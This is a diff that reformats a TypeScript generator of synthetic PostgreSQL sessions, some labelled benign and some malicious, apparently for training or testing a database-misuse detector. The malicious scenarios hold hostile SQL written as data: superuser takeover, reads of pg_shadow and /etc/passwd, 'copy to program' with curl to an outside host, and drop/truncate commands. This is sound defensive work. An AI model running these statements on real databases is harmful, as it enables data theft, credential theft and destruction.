@@ -25,7 +25,13 @@ const PERSON: SessionContext = {
   application_name: 'psql',
   hour_utc: 10,
   weekday: 'Tue',
-  grant: { actions: ['select'], scope: [], ttl_min: 60, reason: 'figures for the monthly report', ticket: null },
+  grant: {
+    actions: ['select'],
+    scope: [],
+    ttl_min: 60,
+    reason: 'figures for the monthly report',
+    ticket: null,
+  },
   history_30d: { sessions: 30, median_statements: 12, usual_hours: [8, 18], usual_apps: ['psql'] },
 };
 const PROGRAM: SessionContext = {
@@ -33,14 +39,29 @@ const PROGRAM: SessionContext = {
   user: 'svc_shop',
   role: 'service_app',
   application_name: 'shop',
-  grant: { actions: ['select', 'insert', 'update', 'delete'], scope: ['public.*'], reason: 'service account' },
+  grant: {
+    actions: ['select', 'insert', 'update', 'delete'],
+    scope: ['public.*'],
+    reason: 'service account',
+  },
   history_30d: { sessions: 300, median_statements: 20, usual_hours: [0, 24], usual_apps: ['shop'] },
 };
-const ABROAD: SessionContext = { ...PERSON, client_addr: '203.0.113.9', country: 'ZZ', hour_utc: 3, application_name: 'python' };
+const ABROAD: SessionContext = {
+  ...PERSON,
+  client_addr: '203.0.113.9',
+  country: 'ZZ',
+  hour_utc: 3,
+  application_name: 'python',
+};
 const SUPPORT: SessionContext = {
   ...PERSON,
   role: 'support_staff',
-  grant: { actions: ['select'], scope: ['customers', 'orders'], reason: 'refund of one order', ticket: 'T-1' },
+  grant: {
+    actions: ['select'],
+    scope: ['customers', 'orders'],
+    reason: 'refund of one order',
+    ticket: 'T-1',
+  },
 };
 const DEPLOY: SessionContext = {
   ...PERSON,
@@ -51,12 +72,23 @@ const LOAD: SessionContext = {
   ...PROGRAM,
   user: 'svc_etl',
   role: 'service_etl',
-  grant: { actions: ['select', 'insert', 'truncate', 'ddl', 'delete'], scope: ['analytics.*'], reason: 'nightly load' },
+  grant: {
+    actions: ['select', 'insert', 'truncate', 'ddl', 'delete'],
+    scope: ['analytics.*'],
+    reason: 'nightly load',
+  },
 };
 
-const PAGES = [0, 1, 2, 3, 4, 5].map((page) => `select * from {table0} order by id limit 1000 offset ${page}000`);
-const RANGES = [0, 1, 2, 3, 4, 5].map((at) => `select id, email from customers where id between ${at}00 and ${at + 1}00`);
-const NAMES = Array.from({ length: 9 }, (_, at) => `select id, full_name from customers where email = 'person${at}@mail.example'`);
+const PAGES = [0, 1, 2, 3, 4, 5].map(
+  (page) => `select * from {table0} order by id limit 1000 offset ${page}000`,
+);
+const RANGES = [0, 1, 2, 3, 4, 5].map(
+  (at) => `select id, email from customers where id between ${at}00 and ${at + 1}00`,
+);
+const NAMES = Array.from(
+  { length: 9 },
+  (_, at) => `select id, full_name from customers where email = 'person${at}@mail.example'`,
+);
 const PROBES = ['boolean', 'error', 'union', 'time', 'tautology'];
 
 const SCENARIOS: readonly Scenario[] = [
@@ -71,14 +103,53 @@ const SCENARIOS: readonly Scenario[] = [
   bad('own_paging', ABROAD, ['catalog'], PAGES, [1000, 1000]),
   bad('own_slow_paging', SUPPORT, ['app'], RANGES, [100, 100]),
   bad('own_curiosity', SUPPORT, ['app'], NAMES, [1, 1]),
-  bad('own_grab', { ...PERSON, hour_utc: 22 }, ['analyst'], ['select * from {table}', 'copy {table} to stdout'], [80_000, 400_000]),
-  bad('own_wipe', { ...PERSON, grant: { actions: ['select', 'ddl'] } }, ['analyst'], ['drop table {table}', 'truncate {table}'], [0, 0]),
-  bad('own_slip', { ...SUPPORT, grant: { actions: ['select', 'delete'], ticket: 'T-3' } }, ['app'], ['delete from {table}'], [90_000, 900_000]),
-  bad('own_takeover', PERSON, ['catalog'], ['alter role {s} superuser', 'grant postgres to {s}', 'select usename, passwd from pg_shadow'], [0, 2]),
-  bad('own_dropper', ABROAD, [], ["copy {s} from program 'id'", "copy (select 1) to program 'curl {host}'", "select pg_read_file('/etc/passwd')"], [0, 1]),
+  bad(
+    'own_grab',
+    { ...PERSON, hour_utc: 22 },
+    ['analyst'],
+    ['select * from {table}', 'copy {table} to stdout'],
+    [80_000, 400_000],
+  ),
+  bad(
+    'own_wipe',
+    { ...PERSON, grant: { actions: ['select', 'ddl'] } },
+    ['analyst'],
+    ['drop table {table}', 'truncate {table}'],
+    [0, 0],
+  ),
+  bad(
+    'own_slip',
+    { ...SUPPORT, grant: { actions: ['select', 'delete'], ticket: 'T-3' } },
+    ['app'],
+    ['delete from {table}'],
+    [90_000, 900_000],
+  ),
+  bad(
+    'own_takeover',
+    PERSON,
+    ['catalog'],
+    ['alter role {s} superuser', 'grant postgres to {s}', 'select usename, passwd from pg_shadow'],
+    [0, 2],
+  ),
+  bad(
+    'own_dropper',
+    ABROAD,
+    [],
+    [
+      "copy {s} from program 'id'",
+      "copy (select 1) to program 'curl {host}'",
+      "select pg_read_file('/etc/passwd')",
+    ],
+    [0, 1],
+  ),
 ];
 
-function harmless(name: string, context: SessionContext, kinds: readonly string[], rows: readonly [number, number]): Scenario {
+function harmless(
+  name: string,
+  context: SessionContext,
+  kinds: readonly string[],
+  rows: readonly [number, number],
+): Scenario {
   return { name, context, before: [], kinds, bad: [], rows };
 }
 
@@ -96,7 +167,9 @@ function bad(
 export function ownSessions(random: Random, each: number): readonly SessionExample[] {
   const benign = readBenign();
   const sessions = SCENARIOS.flatMap((scenario) =>
-    Array.from({ length: each }, (_, at) => compose(scenario, textsOf(benign, scenario.kinds), `${scenario.name}-${at}`, random)),
+    Array.from({ length: each }, (_, at) =>
+      compose(scenario, textsOf(benign, scenario.kinds), `${scenario.name}-${at}`, random),
+    ),
   );
   const bases = textsOf(benign, ['app', 'orm']);
   return [...sessions, ...PROBES.flatMap((family) => injections(family, bases, random, Math.ceil(each / 2)))];
@@ -123,21 +196,40 @@ function compose(scenario: Scenario, texts: readonly string[], id: string, rando
   };
 }
 
-function injections(family: string, bases: readonly string[], random: Random, each: number): readonly SessionExample[] {
+function injections(
+  family: string,
+  bases: readonly string[],
+  random: Random,
+  each: number,
+): readonly SessionExample[] {
   const payloads = readPayloads('payloads.tsv').filter((payload) => payload.family === family);
   return Array.from({ length: each }, (_, at) => {
     const quiet = Array.from({ length: 8 }, () => random.pick(bases));
-    const probes = Array.from({ length: 8 }, () => inject(random.pick(bases), random.pick(payloads), random) ?? '');
+    const probes = Array.from(
+      { length: 8 },
+      () => inject(random.pick(bases), random.pick(payloads), random) ?? '',
+    );
     const sqls = [...quiet, ...probes.filter((sql) => sql !== '')];
-    const statements = timed(sqls.map((sql) => ({ sql, rows: random.below(20) })), random);
+    const statements = timed(
+      sqls.map((sql) => ({ sql, rows: random.below(20) })),
+      random,
+    );
     const bad = sqls.map((_, index) => index).slice(quiet.length);
-    return { session: { ...PROGRAM, id: `own_${family}-${at}`, statements }, bad, scenario: `own_injection_${family}` };
+    return {
+      session: { ...PROGRAM, id: `own_${family}-${at}`, statements },
+      bad,
+      scenario: `own_injection_${family}`,
+    };
   });
 }
 
-const between = ([least, most]: readonly [number, number], random: Random): number => least + random.below(most - least + 1);
+const between = ([least, most]: readonly [number, number], random: Random): number =>
+  least + random.below(most - least + 1);
 
-function timed(statements: readonly { sql: string; rows: number }[], random: Random): readonly SessionStatement[] {
+function timed(
+  statements: readonly { sql: string; rows: number }[],
+  random: Random,
+): readonly SessionStatement[] {
   let t = 0;
   return statements.map((statement) => {
     t += 1 + random.below(30);
